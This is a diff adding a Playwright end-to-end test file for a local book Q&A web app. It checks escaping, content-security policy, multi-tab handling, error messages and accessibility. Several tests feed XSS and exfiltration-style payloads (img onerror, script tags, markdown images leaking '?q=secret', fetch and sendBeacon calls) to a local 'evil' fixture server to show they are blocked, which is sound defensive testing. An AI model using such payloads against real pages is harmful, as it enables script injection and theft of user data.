@@ -1,0 +1,292 @@
+"""The page in states that a real model reaches by luck: hostile text, failures, two tabs, locked and broken books."""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from tests.e2e.steps import (
+    PHONE,
+    WIDE,
+    Open,
+    Server,
+    answered,
+    ask,
+    clean_page,
+    give_text,
+    last_answer,
+    questions,
+    until,
+)
+
+# Text and surface of the page, of which every pair must be told apart by weak eyes (WCAG AA: 4.5, large text 3).
+CONTRAST = """
+() => {
+  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
+  const light = (c) => {
+    const line = (v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
+    const [r, g, b] = c.slice(0, 3).map((v) => line(v / 255));
+    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+  };
+  const ground = (e) => {
+    for (; e; e = e.parentElement) {
+      const c = parse(getComputedStyle(e).backgroundColor);
+      if (c.length < 4 || c[3] > 0.9) return c;
+    }
+    return [255, 255, 255];
+  };
+  const poor = [];
+  const written = '#trifold :is(p, h1, h2, h3, button, span, li, output, small, div.under)';
+  for (const e of document.querySelectorAll(written)) {
+    if (!e.checkVisibility({opacityProperty: true, visibilityProperty: true}) || e.disabled) continue;
+    if (![...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim())) continue;
+    const style = getComputedStyle(e);
+    const [a, b] = [light(parse(style.color)), light(ground(e))].sort((x, y) => y - x);
+    const needed = parseFloat(style.fontSize) >= 24 ? 3 : 4.5;
+    const ratio = (a + 0.05) / (b + 0.05);
+    if (ratio < needed) poor.push([e.tagName, e.className, e.textContent.trim().slice(0, 30), ratio].join(' '));
+  }
+  return poor;
+}
+"""
+
+
+@pytest.fixture
+def evil() -> Iterator[tuple[str, list[str]]]:
+    """Another server on this machine that notes whoever comes: its address and the notes."""
+    visits: list[str] = []
+
+    class Noting(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            visits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", visits
+        server.shutdown()
+
+
+def with_book(page: Page, text: str = "A book") -> None:
+    give_text(page, text)
+    page.wait_for_selector('#trifold[data-stage="ready"]')
+    until(page, lambda: page.inner_text("#book-title") != "")
+    clean_page(page)
+
+
+def test_text_of_a_model_fetches_nothing_and_runs_nothing(
+    scripted: Server, open_page: Open, evil: tuple[str, list[str]]
+) -> None:
+    address, visits = evil
+    page = open_page(scripted)
+    with_book(page)
+    hostile = (
+        f"See ![chart]({address}/a.png?q=secret) <img src={address}/b.png onerror=window.hit=1> "
+        f"<script>window.hit=1</script> [r]: {address}/c ![x][r] [click]({address}/d) "
+        f"<style>@import '{address}/e'</style>"
+        f" <iframe src={address}/f></iframe> <b class=under>bold</b>"
+    )
+    ask(page, f">>>{hostile}<<<")
+    answered(page)
+    shown = last_answer(page)
+    assert "an image at 127.0.0.1, not loaded" in shown
+    assert "<script>window.hit=1</script>" in shown
+    assert "click (127.0.0.1)" in shown
+    assert page.locator("#chat .prose :is(img, iframe, script, style, b)").count() == 0
+    assert page.evaluate("window.hit") is None
+    page.wait_for_timeout(300)
+    assert visits == []
+
+
+def test_the_policy_holds_even_if_text_got_through(
+    browser: Browser, scripted: Server, evil: tuple[str, list[str]]
+) -> None:
+    """The wall behind the wall: the browser itself refuses what a script or an image of another host would do."""
+    address, visits = evil
+    page = browser.new_page()
+    page.goto(scripted.ticket())
+    page.wait_for_selector("#trifold")
+    page.evaluate(
+        """(address) => {
+          const probe = document.createElement('div');
+          probe.innerHTML = `<img src="${address}/i"><img src=x onerror="window.hit=1">`;
+          document.body.append(probe);
+          const script = document.createElement('script');
+          script.textContent = 'window.hit = 1';
+          document.body.append(script);
+          const frame = document.createElement('iframe');
+          frame.src = address + '/frame';
+          document.body.append(frame);
+          return fetch(address + '/f', {mode: 'no-cors'}).catch(() => navigator.sendBeacon(address + '/b', 'x'));
+        }""",
+        address,
+    )
+    page.wait_for_timeout(500)
+    assert visits == []
+    assert page.evaluate("window.hit") is None
+    page.close()
+
+
+def test_a_title_and_a_file_name_are_only_words(scripted: Server, open_page: Open) -> None:
+    page = open_page(scripted)
+    give_text(page, "A <img src=x onerror=window.hit=1> title", "<b>n</b><script>window.hit=1</script>.txt")
+    page.wait_for_selector('#trifold[data-stage="ready"]')
+    until(page, lambda: "<img" in page.inner_text("#book-title"))
+    assert page.locator("#book-head img, #books img, #books script").count() == 0
+    assert page.evaluate("window.hit") is None
+
+
+def test_a_stranger_is_told_in_one_sentence(browser: Browser, scripted: Server) -> None:
+    page = browser.new_page()
+    answer = page.goto(scripted.address)
+    assert answer is not None
+    assert answer.status == 401
+    assert "Open the address that Trifold shows" in page.inner_text("body")
+    page.close()
+
+
+def test_another_tab_is_told_and_can_take_over(scripted: Server, open_page: Open) -> None:
+    first = open_page(scripted)
+    with_book(first)
+    ask(first, "A long question")
+    first.wait_for_selector("#chat .bot .caret")
+    second = open_page(scripted, beside=first)
+    second.wait_for_selector('#trifold[data-asking="yes"]')
+    ask(second, "Me too?")
+    second.wait_for_selector("#chat .trouble")
+    assert "Another tab is asking" in second.locator("#chat .trouble").inner_text()
+    assert second.input_value("#ask-box textarea") == "Me too?"
+    second.get_by_role("button", name="Stop that answer and ask mine").click()
+    until(second, lambda: "Me too?" in second.locator("#chat .user").last.inner_text())
+    answered(second)
+    assert "Maren Holt" in last_answer(second)
+    answered(first)
+    until(first, lambda: questions(first) == 2)
+
+
+def test_a_closed_tab_stops_its_answer(scripted: Server, open_page: Open) -> None:
+    first = open_page(scripted)
+    with_book(first)
+    second = open_page(scripted, beside=first)
+    ask(second, "A long question")
+    second.wait_for_selector("#chat .bot .caret")
+    first.wait_for_selector('#trifold[data-asking="yes"]')
+    second.close()
+    first.wait_for_selector('#trifold[data-asking="no"]', timeout=3000)
+    until(first, lambda: "stopped" in " ".join(first.locator("#chat .under").all_inner_texts()))
+
+
+def test_a_failure_is_a_sentence_with_the_button_that_mends_it(scripted: Server, open_page: Open) -> None:
+    page = open_page(scripted)
+    with_book(page)
+    ask(page, "First, a good one")
+    answered(page)
+    clean_page(page)
+    ask(page, "Now fail")
+    page.wait_for_selector("#chat .trouble")
+    assert page.inner_text("#chat .trouble") == "The memory of this machine ran out. Read fewer pages."
+    answered(page)
+    page.get_by_role("button", name="Ask again").click()
+    page.wait_for_selector("#stop", state="visible")
+    answered(page)
+    assert page.locator("#chat .user").count() == 1
+
+
+def test_books_that_need_something(scripted: Server, open_page: Open) -> None:
+    page = open_page(scripted)
+    give_text(page, "LOCKED book")
+    page.wait_for_selector("#password", state="visible")
+    assert "This book is locked." in page.inner_text("#password-form")
+    page.fill("#password", "wrong")
+    page.keyboard.press("Enter")
+    until(page, lambda: "not its password" in page.inner_text("#password-words"))
+    page.fill("#password", "lamp")
+    page.keyboard.press("Enter")
+    page.wait_for_selector('#trifold[data-stage="ready"]')
+
+    give_text(page, "HUGE book")
+    page.wait_for_selector("#choose-form", state="visible")
+    assert "too long" in page.inner_text("#choose-words")
+    page.fill("#choose-first", "5")
+    page.fill("#choose-last", "44")
+    page.click("#choose-form button")
+    page.wait_for_selector('#trifold[data-stage="ready"]')
+    assert page.inner_text("#book-line").startswith("40 pages")
+
+    give_text(page, "BROKEN book")
+    page.wait_for_selector("#trouble-cause", state="visible")
+    assert page.inner_text("#card [role=alert] p") == "This file is no book. Choose a PDF, an EPUB or a text file."
+    assert page.inner_text("#trouble-mend") == "Choose another book"
+
+
+def test_nothing_jumps_while_an_answer_streams(scripted: Server, open_page: Open) -> None:
+    page = open_page(scripted)
+    with_book(page)
+    ask(page, "A long question")
+    page.wait_for_selector("#chat .bot .caret")
+    boxes = []
+    for _ in range(12):
+        boxes.append([page.locator(part).bounding_box() for part in ("#ask-row", "#figures", "#map")])
+        page.wait_for_timeout(100)
+    assert all(box == boxes[0] for box in boxes)
+    page.keyboard.press("Escape")
+    answered(page)
+    assert "stopped" in page.locator("#chat .under").last.inner_text()
+
+
+@pytest.mark.parametrize("scheme", ["dark", "light"])
+@pytest.mark.parametrize("size", [WIDE, PHONE], ids=["wide", "phone"])
+def test_everything_can_be_read(scripted: Server, open_page: Open, size: tuple[int, int], scheme: str) -> None:
+    page = open_page(scripted, size, scheme)
+    with_book(page)
+    ask(page, "Who kept the north light?")
+    answered(page)
+    page.wait_for_timeout(300)
+    assert page.evaluate(CONTRAST) == []
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    assert page.locator("footer").count() == 0
+
+
+def test_on_a_phone_books_and_figures_are_behind_buttons(scripted: Server, open_page: Open) -> None:
+    page = open_page(scripted, PHONE)
+    with_book(page)
+    for name, button in (("#shelf", "#open-shelf"), ("#figures", "#open-figures")):
+        assert not page.locator(name).is_visible()
+        page.click(button)
+        page.locator(name).wait_for(state="visible")
+        assert page.get_attribute(button, "aria-expanded") == "true"
+        page.keyboard.press("Escape")
+        page.locator(name).wait_for(state="hidden")
+    chat, box = page.locator("#chat").bounding_box(), page.locator("#ask-row").bounding_box()
+    assert chat is not None
+    assert box is not None
+    assert chat["y"] + chat["height"] <= box["y"]
+    assert box["y"] + box["height"] <= PHONE[1]
+
+
+def test_keys_and_the_choice_of_light_or_dark(scripted: Server, open_page: Open) -> None:
+    page = open_page(scripted, scheme="light")
+    with_book(page)
+    page.fill("#ask-box textarea", "One")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("two")
+    assert page.input_value("#ask-box textarea") == "One\ntwo"
+    assert page.locator("#chat .user").count() == 0
+    page.keyboard.press("Enter")
+    answered(page)
+    page.click("#theme")
+    assert page.get_attribute("html", "data-theme") == "dark"
+    page.reload()
+    page.wait_for_selector("#chat .bot .prose")
+    assert page.get_attribute("html", "data-theme") == "dark"
+    assert page.evaluate("document.body.classList.contains('dark')")
+    page.keyboard.press("Tab")
+    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
